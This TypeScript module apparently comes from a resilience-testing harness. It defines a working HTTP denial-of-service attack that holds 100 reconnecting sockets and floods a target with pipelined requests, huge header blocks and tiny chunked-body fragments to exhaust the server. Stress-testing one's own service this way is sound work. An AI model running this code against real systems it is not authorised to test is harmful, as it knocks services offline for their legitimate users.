import { connect, type Socket } from "node:net";
import { type Attack, ELSEWHERE } from "../attack.ts";

const HANDS = 100;
const REQUEST = "GET /x HTTP/1.1\r\nHost: a\r\n\r\n";
const HEADERS = Array.from({ length: 1_500 }, (_, i) => `a${i}:\r\n`).join("");
const CHUNKED = "Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n";
/** Some 64 KiB each: what the service reads of a socket in one go. */
const BYTES = [
  REQUEST.repeat(2_400),
  `GET /x HTTP/1.1\r\nHost: a\r\n${HEADERS}\r\n`.repeat(5),
  `POST /api/v1/session HTTP/1.1\r\nHost: 127.0.0.1\r\n${CHUNKED}${"1\r\n \r\n".repeat(10_000)}`,
  // Within all limits.
  `POST /x HTTP/1.1\r\nHost: 127.0.0.1\r\n${CHUNKED}${"1\r\n \r\n".repeat(900)}0\r\n\r\n`.repeat(10),
  REQUEST.repeat(15),
];

/** Strangers whose bytes cost the service much more than them, and who come back as soon as they are shown the door. */
export const attack: Attack = {
  name: "dear HTTP bytes",
  about:
    "100 connections send pipelined requests, tiny chunks and huge heads, again and again; all others are answered.",
  async run(target, signal) {
    const { hostname: host, port } = new URL(target.http);
    const held = new Set<Socket>();
    let opened = 0;
    function open(): void {
      if (signal.aborted) return;
      const text = BYTES[opened++ % BYTES.length]!;
      const socket = connect({ host, port: Number(port), localAddress: ELSEWHERE });
      held.add(socket);
      socket.on("error", () => {}).once("connect", () => socket.write(text));
      // Who is answered asks again.
      socket.on("data", () => socket.writableLength === 0 && socket.write(text));
      socket.once("close", () => {
        held.delete(socket);
        open();
      });
    }
    for (let i = 0; i < HANDS; i++) open();
    await new Promise((resolve) => signal.addEventListener("abort", resolve, { once: true }));
    for (const socket of held) socket.destroy();
    return `${opened} connections`;
  },
};
